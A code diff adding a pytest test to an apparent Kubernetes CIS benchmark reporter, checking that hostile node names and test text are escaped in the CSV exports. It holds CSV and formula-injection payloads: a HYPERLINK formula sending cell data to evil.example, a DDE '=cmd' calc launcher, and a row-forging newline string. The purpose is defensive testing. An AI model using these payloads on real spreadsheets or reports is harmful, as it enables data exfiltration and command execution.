@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -104,3 +106,29 @@ def test_bad_thresholds_name_the_field(benched: Any) -> None:
 def test_malformed_kube_bench_names_the_field(data: bytes, field: str) -> None:
     with pytest.raises(ParseError, match=field):
         cis.from_kube_bench(data, "n1", "v1.30.2", START, "kube-bench.json")
+
+
+# What a cluster's writer token can put in a benchmark result (/tmp/review19/repro_cis_csv.py): a formula at a
+# cell start, commas, quotes and newlines that would forge rows of the auditor's CSV.
+HOSTILE_NODE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+HOSTILE_DESC = 'desc\nnode-forged,4.1.9,forged row,PASS,true,"ok'
+HOSTILE_INFO = 'chmod 644 x", =cmd|\' /C calc\'!A0, "'
+
+
+def test_hostile_values_are_inert_single_rows(benched: Any) -> None:
+    doc = {"version": "cis-1.6", "kubernetesVersion": "+v1.30", "type": "kube", "node_name": HOSTILE_NODE,
+           "timestamp": (START + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.000000Z"),
+           "tests": [{"section": "4.1", "section_desc": "s", "test_number": "@4.1.1", "test_desc": HOSTILE_DESC,
+                      "test_info": HOSTILE_INFO, "status": "FAIL", "scored": True}]}
+    cis.store(benched, "evil", [doc], END)
+    reporter.run(benched, "evil", report("cis"), START, END, END)
+    files = reporter.downloads(reporter.stored(benched, "evil", "cis", END))
+    for name in ("failed-tests.csv", "all-tests.csv"):
+        rows = list(csv.reader(io.StringIO(files[name])))
+        assert rows == [["nodeName", "testIndex", "testDescription", "status", "scored", "remediation"],
+                        ["'" + HOSTILE_NODE, "'@4.1.1", HOSTILE_DESC, "FAIL", "true", HOSTILE_INFO], []], name
+    rows = list(csv.reader(io.StringIO(files["node-summary.csv"])))
+    assert rows == [["node", "version", "status", "testsPassing", "testsFailing", "testsUnknown", "testsTotal"],
+                    ["'" + HOSTILE_NODE, "'+v1.30", "LOW", "0", "1", "0", "1"], []]
+    # The remediation column stays quoted as Calico's template writes it, the quotes inside doubled.
+    assert files["failed-tests.csv"].endswith(',FAIL,true,"chmod 644 x"", =cmd|\' /C calc\'!A0, """\n\n')
